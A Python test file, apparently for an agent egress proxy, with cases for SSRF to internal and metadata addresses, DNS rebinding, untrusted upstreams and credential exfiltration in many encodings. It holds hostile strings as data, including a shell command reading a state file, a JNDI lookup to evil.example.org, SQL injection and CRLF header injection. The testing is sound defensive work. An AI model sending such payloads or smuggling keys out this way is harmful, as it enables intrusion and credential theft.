"""Around it: upstreams that are not who they should be, names that point inward, and credentials on their way out.

Published work behind the rows: RFC 9525 (who a certificate is for), RFC 5280 §6; Collin Jackson et al., "Protecting Browsers from
DNS Rebinding Attacks" (2007); Orange Tsai, "A New Era of SSRF" (2017); CVE-2021-25735 and kin (metadata services).
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, replace

from outloop.attacks import frames
from outloop.attacks.case import (
    CLOSED,
    FOREIGN,
    HOST,
    PASSWORD,
    PREVIOUS,
    RICH,
    TOKEN,
    USER,
    Case,
    Cut,
    Heard,
    Talk,
    connect,
    forwarded,
    http2,
    plain,
    request,
    tunnel,
    with_body,
)  # fmt: skip
from outloop.attacks.forms import PLAIN
from outloop.attacks.house import GLOBEX_AGENT, OPEN_AGENT, OTHER, UNTRUSTED
from outloop.attacks.outward import CARRIED_OUT
from outloop.attacks.upstream.replies import reply

REBINDING = "Jackson et al., DNS Rebinding (2007)"
SSRF = "Tsai, A New Era of SSRF (2017)"


def _as(agent: tuple[str, str]) -> str:
    return "Proxy-Authorization: Basic " + base64.b64encode(":".join(agent).encode()).decode()


# Upstreams


def _is_quiet(heard: Heard) -> str:
    return "the agent is told what the upstream's certificate says" if b"-----BEGIN" in heard.everything else ""


def _unproved(name: str, talk: Talk) -> Case:
    return Case(f"upstream-{name.removesuffix('.example.com')}", "G2", talk, 502, "upstream_untrusted",
        rows=(("allow", "upstream_untrusted"),), dials=True, check=_is_quiet, basis="RFC 9525 §6")  # fmt: skip


UPSTREAMS = (
    *(_unproved(host, tunnel(request("/a", host=host), to=f"{host}:443")) for host in UNTRUSTED),
    *(_unproved(f"upload-{host}", tunnel(with_body("/a", b"abc", "Content-Type: a/b", host=host), to=f"{host}:443"))
        for host in UNTRUSTED),
    *(_unproved(f"h2-{host}", http2(frames.headers(*frames.head(path="/a", authority=host)),
        to=f"{host}:443")) for host in UNTRUSTED),
    *(_unproved(f"absolute-form-{host}", plain(request(f"https://{host}/a", host=host))) for host in UNTRUSTED),
)  # fmt: skip

# Names that point inward


def _inward(name: str, target: str, basis: str = SSRF) -> Case:
    return Case(f"inward-{name}", "G2", plain(connect(target, _as(OPEN_AGENT))), 403, "destination_not_allowed", basis=basis)


ADDRESSES = {
    "loopback": "127.0.0.1", "loopback-elsewhere": "127.8.9.10", "this-host": "0.0.0.0", "ten": "10.1.2.3",
        "sixteen": "172.16.0.1",
    "sixteen-end": "172.31.255.255", "home": "192.168.1.1", "shared": "100.64.0.1", "link-local": "169.254.1.1",
    "metadata": "169.254.169.254", "metadata-of-alibaba": "100.100.100.200", "metadata-of-ecs": "169.254.170.2",
    "benchmark": "198.18.0.1", "example": "203.0.113.9", "protocol": "192.0.0.1", "multicast": "224.0.0.1",
        "reserved": "240.0.0.1",
    "broadcast": "255.255.255.255", "v6-loopback": "[::1]", "v6-unspecified": "[::]", "v6-local": "[fe80::1]",
        "v6-unique": "[fd00::1]",
    "v6-metadata": "[fd00:ec2::254]", "v6-6to4": "[2002:7f00:1::]", "v6-nat64": "[64:ff9b::7f00:1]", "v6-multicast": "[ff02::1]",
    "v6-documentation": "[2001:db8::1]", "v6-teredo": "[2001::1]",
}  # fmt: skip
NAMES = {
    "name-of-loopback": "127-0-0-1", "name-of-metadata": "169-254-169-254", "name-of-ten": "10-0-0-1",
        "name-of-v6": "0-0-0-0-0-0-0-1",
    "public-and-loopback": "8-8-8-8.127-0-0-1", "loopback-and-public": "127-0-0-1.8-8-8-8",
        "public-and-metadata": "8-8-8-8.169-254-169-254",
    "public-twice-and-home": "8-8-8-8.9-9-9-9.192-168-0-1",
}  # fmt: skip
REBOUND = "8-8-8-8.then.127-0-0-1.rebound.example:8443"
INWARD = (
    *(_inward(name, f"{address}:443") for name, address in ADDRESSES.items()),
    *(_inward(f"{name}-on-port-{port}", f"{ADDRESSES[name]}:{port}") for name in ("loopback", "metadata") for port in (22, 80,
        8080)),
    *(_inward(name, f"{labels}.rebound.example:443", REBINDING) for name, labels in NAMES.items()),
    _inward("localhost", "localhost:443"),
    Case("inward-the-second-time", "G2", Talk((connect(REBOUND, _as(OPEN_AGENT)),)), 200, "OK", rows=(("allow", "OK"),),
        dials=True,
         basis=REBINDING),
    replace(_inward("what-was-public-before", REBOUND, REBINDING), follows=True),
    Case("inward-by-absolute-form", "G2", plain(request("http://169.254.169.254/latest/meta-data/", _as(OPEN_AGENT),
         host="169.254.169.254")), 403, "host_not_allowed", basis="CVE-2021-25735"),
    Case("inward-for-an-agent-without-egress", "G2", plain(connect("127-0-0-1.rebound.example:443")), 403, "host_not_allowed"),
)  # fmt: skip

# Credentials on their way out

OUT = "CWE-522"
BLOB = "Content-Type: application/octet-stream"


def _misplaced(name: str, talk: Talk, reason: str = "credential_misplaced", **more: object) -> Case:
    return Case(f"out-{name}", "G2", talk, 403, reason, check=_tells_nothing, basis=OUT, **more)  # type: ignore[arg-type]


def _tells_nothing(heard: Heard) -> str:
    told = [each for each in (TOKEN, RICH, PASSWORD, PREVIOUS, FOREIGN, "globex") if each.encode() in heard.body]
    return f"the document names {told}" if told else ""


def _posts(body: bytes, *lines: str) -> Talk:
    return tunnel(with_body("/items/1", body, *(lines or (BLOB,))))


@dataclass(frozen=True, eq=False, slots=True)
class CutBefore(Cut):
    """An upload that was cut before all of `unseen` had left."""

    unseen: tuple[bytes, ...] = ()

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, Cut):
            return NotImplemented
        body = other.start.partition(b"\r\n\r\n")[2]
        return other.start.startswith(self.start) and all(piece not in body for piece in self.unseen)

    __hash__ = None  # type: ignore[assignment]


LONG = b"x" * 200_000
CUT = CutBefore(b"POST /items/1 HTTP/1.1\r\n", (TOKEN.encode(), PLAIN["base64-1"](TOKEN)[2:-2]))


def _long(name: str, talk: Talk) -> Case:
    return Case(f"out-{name}", "G2", talk, CLOSED, "", (CUT,), (("allow", "credential_misplaced"),), basis=OUT)


def _chunked(body: bytes, at: int = 150_000) -> bytes:
    return b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in (body[:at], body[at:])) + b"0\r\n\r\n"


SPELLED = ("raw", "percent-upper", "base64-0", "base64-1", "base64-2-url", "basic", "hex", "hex-upper", "json-u-lower")
ESCAPED = frozenset({"json-u-lower"})
OUTWARD = (
    *(_misplaced(f"query-{name}", tunnel(request(f"/a?q={PLAIN[name](TOKEN).decode().replace(' ', '%20')}"))) for name in SPELLED
        if name not in ESCAPED),
    *(_misplaced(f"path-{name}", tunnel(request(f"/a/{PLAIN[name](TOKEN).decode()}"))) for name in ("raw", "base64-0", "hex")),
    *(_misplaced(f"header-{name}", tunnel(request("/a", f"X-Note: {PLAIN[name](TOKEN).decode()}"))) for name in SPELLED),
    *(_misplaced(f"body-{name}", _posts(b"note=" + PLAIN[name](TOKEN) + b".")) for name in SPELLED),
    *(_misplaced(f"body-of-{owner}", _posts(secret.encode())) for owner, secret in (
        ("another-service", RICH), ("a-password", PASSWORD), ("a-value-before-rotation", PREVIOUS),
        ("a-basic-pair", base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()))),
    _misplaced("header-name", tunnel(request("/a", f"{TOKEN}: x"))),
    _misplaced("referer", tunnel(request("/a", f"Referer: https://{HOST}/?k={TOKEN}"))),
    _misplaced("user-agent", tunnel(request("/a", f"User-Agent: {TOKEN}"))),
    _misplaced("another-host", tunnel(request(f"/a?q={TOKEN}", host="tenant.example.com"), to="tenant.example.com:443")),
    _misplaced("second-request", tunnel(request("/a"), request(f"/a?q={TOKEN}")), upstream=(forwarded("/a"),)),
    _misplaced("h2-header", http2(frames.headers(*frames.head(("x-note", TOKEN), path="/a")))),
    _misplaced("h2-query", http2(frames.headers(*frames.head(path=f"/a?q={TOKEN}")))),
    _misplaced("json-body", _posts(f'{{"note": "{TOKEN}"}}'.encode(), "Content-Type: application/json")),
    _misplaced("form-body", _posts(f"a=1&note={TOKEN}".encode(), "Content-Type: application/x-www-form-urlencoded")),
    _long("chunked-body", tunnel(request("/items/1", BLOB, "Transfer-Encoding: chunked", method="POST",
        body=_chunked(TOKEN.encode(), 13)))),
    _long("long-body", _posts(LONG + TOKEN.encode() + LONG)),
    _long("long-chunked-body", tunnel(request("/items/1", BLOB, "Transfer-Encoding: chunked", method="POST",
        body=_chunked(LONG + TOKEN.encode() + LONG)))),
    _long("long-body-across-chunks", tunnel(request("/items/1", BLOB, "Transfer-Encoding: chunked", method="POST",
        body=_chunked(b"x" * 149_990 + TOKEN.encode() + LONG)))),
    _long("long-body-in-base64", _posts(LONG + PLAIN["base64-1"](TOKEN) + LONG)),
    Case("out-own-name", "G1", tunnel(request(f"/a?user={USER}")), 200, "OK", (forwarded(f"/a?user={USER}"),), body=b"ok"),
    Case("out-half-a-key", "G1", tunnel(request(f"/a?q={TOKEN[:13]}")), 200, "OK", (forwarded(f"/a?q={TOKEN[:13]}"),),
        body=b"ok"),
    Case("out-reversed", "G2", tunnel(request(f"/a?q={TOKEN[::-1]}")), 200, "OK", (forwarded(f"/a?q={TOKEN[::-1]}"),), body=b"ok",
         limit="what goes out is searched for the plain forms: an agent that has a key can always disguise it", basis=OUT),
)  # fmt: skip

# Other workspaces

WAKE = Case("foreign-key-in-memory", "G7", Talk((request("/a", host=OTHER),), connect(f"{OTHER}:443", _as(GLOBEX_AGENT)),
    OTHER), 200,
    "OK", (forwarded("/a", host=OTHER, token=FOREIGN),), body=b"ok")  # fmt: skip


def _foreign(name: str, talk: Talk) -> Case:
    return _misplaced(f"foreign-key-{name}", talk, "body_not_allowed")


WORKSPACES = (
    WAKE,
    _foreign("in-a-query", tunnel(request(f"/a?q={FOREIGN}"))),
    _foreign("in-a-header", tunnel(request("/a", f"X-Note: {FOREIGN}"))),
    _foreign("in-a-body", _posts(FOREIGN.encode())),
    _foreign("in-base64", _posts(PLAIN["base64-1"](FOREIGN))),
    Case("foreign-host", "G7", plain(connect(f"{OTHER}:443")), 403, "host_not_allowed"),
    Case("foreign-agent-on-this-host", "G7", plain(connect(f"{HOST}:443", _as(GLOBEX_AGENT))), 403, "host_not_allowed"),
    Case("foreign-echo", "G7", tunnel(request("/a")), 200, "OK", (forwarded("/a"),), reply=reply(FOREIGN.encode()),
         body=FOREIGN.encode()),
)  # fmt: skip

# What means nothing

PLACEHOLDERS = {
    "environment": "$VENDOR_KEY", "shell": "$(cat ~/.outloop/state.db)", "backticks": "`id`", "braces": "${VENDOR_KEY}",
    "template": "{{vendor_key}}", "outloop": "__OUTLOOP_KEY__", "colon": "outloop:acme-api",
        "jndi": "${jndi:ldap://evil.example.org/a}",
    "format": "%s%n{0.__class__}", "proxied": "PROXY_MANAGED",
}  # fmt: skip
INERT = (
    *(Case(f"placeholder-{name}-in-a-header", "G2", tunnel(request("/a", f"X-Note: {text}")), 200, "OK", (forwarded("/a",
        f"X-Note: {text}"),), body=b"ok") for name, text in PLACEHOLDERS.items()),
    *(Case(f"placeholder-{name}-in-a-body", "G2", _posts(text.encode()), 200, "OK", (forwarded("/items/1", BLOB, method="POST",
        body=text.encode()),), body=b"ok") for name, text in PLACEHOLDERS.items()),
    *(Case(f"placeholder-{name}-in-authorization", "G2", tunnel(request("/a", f"Authorization: Bearer {text}")), 200, "OK",
        (forwarded("/a"),), body=b"ok") for name, text in PLACEHOLDERS.items()),
)  # fmt: skip
HOSTILE = {
    "markup": "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "quote": "%22%27--", "escape": "%1B%5B2J", "formula": "=HYPERLINK(1)",
        "at": "@SUM(1)",
    "bidi": "%E2%80%AE", "line": "%0D%0AX-Injected:1", "sql": "';DROP%20TABLE%20decisions;--", "long": "a" * 3000,
    "markdown": "%5Bx%5D(javascript:1)", "emoji": "%F0%9F%92%A9",
}  # fmt: skip
PRINTED = (
    *(Case(f"hostile-query-{name}", "G8", tunnel(request(f"/a?q={text}")), 200, "OK", (forwarded(f"/a?q={text}"),), body=b"ok")
        for name, text in HOSTILE.items()),
    *(Case(f"hostile-query-{name}", "G8", tunnel(request(f"/a?q={text}")), 400, "malformed_request") for name, text in
        (("nul", "%00"), ("latin-1", "%E9%FF"))),
)  # fmt: skip

CASES = (*UPSTREAMS, *INWARD, *OUTWARD, *WORKSPACES, *INERT, *PRINTED, *CARRIED_OUT)
